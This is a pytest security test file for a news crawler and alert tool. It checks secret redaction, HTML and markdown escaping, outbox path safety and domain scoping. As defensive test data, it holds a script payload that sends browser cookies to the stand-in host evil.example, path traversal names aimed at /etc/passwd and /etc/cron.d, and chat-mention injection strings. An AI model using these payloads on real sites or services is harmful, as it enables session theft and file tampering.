"""Security end to end: secrets stay out of every output and the database, the crawler says who it is,
page text cannot inject markup into emails or chat posts, no file lands outside the outbox, and the
crawl stays on each source's domains."""

from __future__ import annotations

import json
import re
import sqlite3
import subprocess
from collections.abc import Iterator
from dataclasses import dataclass
from email import message_from_bytes, policy
from pathlib import Path

import pytest
import yaml
from alerts_support import add_announcement, child_env, load, newswatch_cmd
from alerts_support import write_config as write_alerts_config
from crawl_support import crawl, write_config
from db_support import database, dispose_all, session_scope
from servers.smtp import ScriptedSMTP
from servers.webhook import WebhookReceiver
from sqlalchemy import select

from alerts.deliver import DeliveryOptions, deliver
from alerts.http import RetryPolicy
from newswatch.config import DEFAULT_USER_AGENT, ConfigError, parse_config
from newswatch.demo.responses import Page
from newswatch.demo.server import DemoServer, serve
from newswatch.demo.sites import NewsSite
from newswatch.store.models import Article, CrawlRun

SMTP_PASSWORD = "Smtp-P4ss-9f3kq!"
SIGNING_SECRET = "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw"
# WebhookReceiver.url carries a token in its path and a key in its query, as Slack and Discord URLs do.
URL_SECRETS = ("T0KEN-secret-path", "abc123")
# The SMTP server asks for a login over plain text: it listens on 127.0.0.1 only.
pytestmark = pytest.mark.filterwarnings("ignore:Requiring AUTH while not requiring TLS")
FAST = RetryPolicy(attempts=2, backoff_base_seconds=0.01, connect_timeout_seconds=1)


@dataclass
class SecretRun:
    outputs: dict[str, str]
    database: str
    hook: WebhookReceiver
    smtp: ScriptedSMTP
    server: DemoServer


def dump_sqlite(path: str) -> str:
    """Every value of every table, as text."""
    conn = sqlite3.connect(path)
    try:
        tables = [r[0] for r in conn.execute("SELECT name FROM sqlite_master WHERE type = 'table'")]
        return "\n".join(f"{t}: {row!r}" for t in tables for row in conn.execute(f'SELECT * FROM "{t}"'))
    finally:
        conn.close()


@pytest.fixture(scope="module")
def secret_run(tmp_path_factory: pytest.TempPathFactory) -> Iterator[SecretRun]:
    """crawl, deliver (one webhook refusing with a 404), check, status and deliveries, all at -vv, with
    an SMTP password, webhook URLs holding tokens and a signing secret in the config."""
    tmp = tmp_path_factory.mktemp("secrets")
    path = tmp / "newswatch.db"
    url = f"sqlite:///{path}"
    database(url).migrate()
    smtp = ScriptedSMTP(users={"newswatch": SMTP_PASSWORD}).start()
    hook = WebhookReceiver().start()
    site = NewsSite(name="tech", n_articles=4)
    try:
        with serve([site]) as server:
            home = server.url_for("tech")
            data = {
                "database_url": url,
                "data_dir": str(tmp / "data"),
                "crawl": {"download_delay": 0, "autothrottle": False, "workers": 0, "timeout_seconds": 10},
                "sources": [{"name": "tech", "home": home}],
                "mail": {
                    "sender": "newswatch <alerts@example.org>",
                    "smtp": {
                        "host": "127.0.0.1",
                        "port": smtp.port,
                        "security": "none",
                        "username": "newswatch",
                        "password": "${SMTP_PASSWORD}",
                        "timeout_seconds": 5,
                    },
                },
                "subscribers": [
                    {"name": "analyste", "email": "analyste@example.org", "frequency": "immediate"}
                ],
                "webhooks": [
                    {"name": "chat", "format": "slack", "url": "${CHAT_WEBHOOK_URL}"},
                    {"name": "crm", "format": "json", "url": hook.url + "&h=crm", "secret": SIGNING_SECRET},
                ],
            }
            config = tmp / "config.yaml"
            config.write_text(yaml.safe_dump(data, sort_keys=False), encoding="utf-8")
            env = child_env(url, SMTP_PASSWORD=SMTP_PASSWORD, CHAT_WEBHOOK_URL=hook.url + "&h=chat")
            add_announcement(url, "Microsoft")
            add_announcement(url, "Pfizer")
            hook.fail(1, 404)  # one post refused for good: its error lands in the ledger and the log
            outputs = {}
            for args in (
                ["crawl"],
                ["deliver"],
                ["check"],
                ["check", "--format", "json"],
                ["status"],
                ["deliveries"],
                ["deliveries", "--format", "json"],
            ):
                proc = subprocess.run(
                    newswatch_cmd(config, "-vv", *args),
                    env=env,
                    capture_output=True,
                    text=True,
                    timeout=120,
                    cwd=tmp,
                )
                assert proc.returncode in (0, 1), proc.stderr[-3000:]
                outputs[" ".join(args)] = proc.stdout + proc.stderr
            yield SecretRun(outputs, str(path), hook, smtp, server)
    finally:
        smtp.stop()
        hook.stop()
        dispose_all()


def test_secrets_never_appear_in_any_output_or_in_the_database_even_at_debug_level(
    secret_run: SecretRun,
) -> None:
    # The secrets were really used: a login, posts to the token URLs, a signature.
    assert secret_run.smtp.logins == ["newswatch"] and len(secret_run.smtp.received) == 1
    assert {r.path.rsplit("=", 1)[1] for r in secret_run.hook.accepted} == {"chat", "crm"}
    assert all(URL_SECRETS[0] in r.path for r in secret_run.hook.requests)
    assert any("webhook-signature" in r.headers for r in secret_run.hook.accepted)
    assert "DEBUG" in secret_run.outputs["crawl"] and "DEBUG urllib3" in secret_run.outputs["deliver"]
    secrets = (SMTP_PASSWORD, SIGNING_SECRET, SIGNING_SECRET.removeprefix("whsec_"), *URL_SECRETS)
    for command, text in secret_run.outputs.items():
        for secret in secrets:
            assert secret not in text, f"`newswatch -vv {command}` printed a secret: {secret}"
    database = dump_sqlite(secret_run.database)
    assert "HTTP 404" in database  # the refused post's error is recorded ...
    for secret in secrets:
        assert secret not in database, secret  # ... without the URL it was posted to


def test_the_crawler_user_agent_names_the_bot_and_a_contact_url(secret_run: SecretRun) -> None:
    hits = secret_run.server.hits.records()
    assert {h.path for h in hits} >= {"/robots.txt", "/", "/feed/"}
    assert {h.headers.get("user-agent") for h in hits} == {DEFAULT_USER_AGENT}
    assert re.match(r"^newswatch/[\d.]+ \(\+https?://\S+?[;)]", DEFAULT_USER_AGENT)


# --- page text in messages and file names -------------------------------------------------------

HOSTILE_INVESTOR = "<script>alert('x')</script> <!channel> @everyone *gras* [lien](http://evil.example)"
HOSTILE_TITLE = "../../etc/passwd <script>document.location='http://evil.example/'+document.cookie</script>"
CHAT_FORMATS = ("slack", "googlechat", "mattermost", "discord", "teams")


@dataclass
class HostileDelivery:
    root: Path
    outbox: Path
    hook: WebhookReceiver
    before: set[Path]
    after: set[Path]


@pytest.fixture(scope="module")
def hostile_delivery(tmp_path_factory: pytest.TempPathFactory) -> Iterator[HostileDelivery]:
    """One delivery run (outbox e-mail and every chat format) of an announcement whose investor and
    source title are hostile page text."""
    root = tmp_path_factory.mktemp("hostile-delivery")
    url = f"sqlite:///{root / 'newswatch.db'}"
    database(url).migrate()
    hook = WebhookReceiver().start()
    try:
        add_announcement(
            url, HOSTILE_INVESTOR, title=HOSTILE_TITLE, url="https://news.example.org/a/../../etc/passwd"
        )
        config = load(
            write_alerts_config(
                root,
                database_url=url,
                webhooks=[
                    {"name": f"to-{fmt}", "format": fmt, "url": f"{hook.url}&f={fmt}"} for fmt in CHAT_FORMATS
                ],
            )
        )
        before = set(root.rglob("*"))
        report = deliver(config, database(url), DeliveryOptions(http=FAST))
        assert report.ok and report.total("sent") == 1 + len(CHAT_FORMATS), report.summary()
        yield HostileDelivery(root, config.outbox_path, hook, before, set(root.rglob("*")))
    finally:
        hook.stop()
        dispose_all()


def test_page_html_is_escaped_in_the_digest_email(hostile_delivery: HostileDelivery) -> None:
    [eml] = hostile_delivery.outbox.glob("*.eml")
    message = message_from_bytes(eml.read_bytes(), policy=policy.default)
    html = message.get_body(("html",)).get_content()
    assert "<script>" not in html and "&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt;" in html
    assert "&lt;script&gt;document.location=" in html
    assert "<script>" not in str(message["Subject"])


@pytest.mark.parametrize("fmt", CHAT_FORMATS)
def test_page_markup_is_escaped_in_every_chat_post(hostile_delivery: HostileDelivery, fmt: str) -> None:
    [post] = [r for r in hostile_delivery.hook.accepted if r.path.endswith(f"&f={fmt}")]
    text = json.dumps(post.json(), ensure_ascii=False)
    if fmt == "teams":
        # Teams reads no markup in TextRuns or in the summary: page text is only ever there, shown as written.
        card = post.json()["attachments"][0]["content"]
        assert _elements(card, "TextBlock") == []
        runs = [r for block in _elements(card, "RichTextBlock") for r in block["inlines"]]
        assert HOSTILE_INVESTOR in [r["text"] for r in runs] and card["fallbackText"].startswith(
            HOSTILE_INVESTOR[:60]
        )
        assert all("evil.example" not in r.get("selectAction", {}).get("url", "") for r in runs)
        return
    assert "<script>" not in text
    if fmt in ("slack", "googlechat"):
        assert "<!channel>" not in text and "&lt;!channel&gt;" in text
    else:
        # Markdown: the page cannot make a link, bold text or a mention of its own.
        assert "[lien](http://evil.example)" not in text and "*gras*" not in text.replace("\\\\*", "")
    if fmt in ("mattermost", "discord"):
        assert "@everyone" not in text


def _elements(node: object, kind: str) -> list[dict]:
    if isinstance(node, dict):
        return ([node] if node.get("type") == kind else []) + [
            e for v in node.values() for e in _elements(v, kind)
        ]
    if isinstance(node, list):
        return [e for v in node for e in _elements(v, kind)]
    return []


def test_outbox_file_names_from_hostile_titles_stay_inside_the_outbox(
    hostile_delivery: HostileDelivery,
) -> None:
    created = {p for p in hostile_delivery.after - hostile_delivery.before if p.is_file()}
    written = {p for p in created if p.suffix == ".eml"}
    assert len(written) == 1
    [eml] = written
    assert eml.parent.resolve() == hostile_delivery.outbox.resolve()
    assert re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9._-]*\.eml", eml.name)
    # Nothing else was written, anywhere under the data folder or beside it, and no "passwd".
    assert not [p for p in created - written if not p.name.startswith("newswatch.db")]
    assert not [p for p in hostile_delivery.after if "passwd" in p.name]


def test_a_subscriber_name_that_could_escape_the_outbox_is_refused_by_the_config(tmp_path: Path) -> None:
    text = "subscribers:\n  - name: ../../etc/cron.d/x\n    email: a@example.org\n"
    with pytest.raises(
        ConfigError, match=r"config.yaml, line 2: subscribers\[0\]\.name: String should match pattern"
    ):
        parse_config(text, tmp_path / "config.yaml", env={})


# --- allowed domains ----------------------------------------------------------------------------


class Hop:
    """A site on another port that redirects every article path to `target` (an off-domain site)."""

    name = "hop"
    target = ""

    def respond(self, path: str, query: str, base: str) -> Page | None:
        if path == "/robots.txt":
            return Page(b"User-agent: *\nAllow: /\n", "text/plain; charset=utf-8", conditional=False)
        return Page.redirect(self.target + path, status=302)


def test_the_crawl_stays_inside_each_sources_allowed_domains(tmp_path: Path, sqlite_url: str) -> None:
    own, other, hop = NewsSite(name="own", n_articles=5), NewsSite(name="other", n_articles=5, seed=7), Hop()
    with serve([own, other, hop]) as server:
        port = {name: server.url_for(name).rsplit(":", 1)[1].strip("/") for name in ("own", "other", "hop")}
        hop.target = f"http://127.0.0.1:{port['other']}"
        off_domain = [
            f"http://127.0.0.1:{port['own']}/2025/05/19/meme-serveur-sous-un-autre-nom/",  # same server, other host
            f"http://127.0.0.1:{port['other']}/{other.articles[0].path.lstrip('/')}",  # another site
            f"http://127.0.0.2:{port['other']}/2025/05/19/une-autre-adresse-locale/",  # another 127.0.0.x
        ]
        redirecting = (
            f"http://localhost:{port['hop']}{other.articles[1].path}"  # on the domain, redirects off it
        )
        own.faults = [*off_domain, redirecting]  # linked from listing page 1
        home = f"http://localhost:{port['own']}/"
        config = write_config(tmp_path, [{"name": "own", "home": home, "listings": [home + "actualites/"]}])
        result = crawl(config, sqlite_url)
        other_hits = [h.path for h in server.hits.records() if h.site == "other"]
        own_hosts_ok = all(h.site != "own" or "meme-serveur" not in h.path for h in server.hits.records())
    assert other_hits == [] and own_hosts_ok
    [line] = [s for s in result.stderr.splitlines() if "source own: refused redirect" in s]
    assert (
        f"{redirecting} -> {hop.target}{other.articles[1].path} (host 127.0.0.1 is outside allowed_domains"
        in line
    )
    assert result.summary()["own"]["new"] == 5 and result.summary()["own"]["skipped"] == 1
    assert result.summary()["own"]["refused"] == 1
    assert result.summary()["own"]["errors"] == 0  # 127.0.0.2 was never even tried
    with session_scope(sqlite_url) as session:
        urls = session.scalars(select(Article.url)).all()
        stats = session.scalars(select(CrawlRun.stats)).one()
    assert len(urls) == 5 and all(u.startswith(home) for u in urls)
    assert stats["scope/refused"] == 1
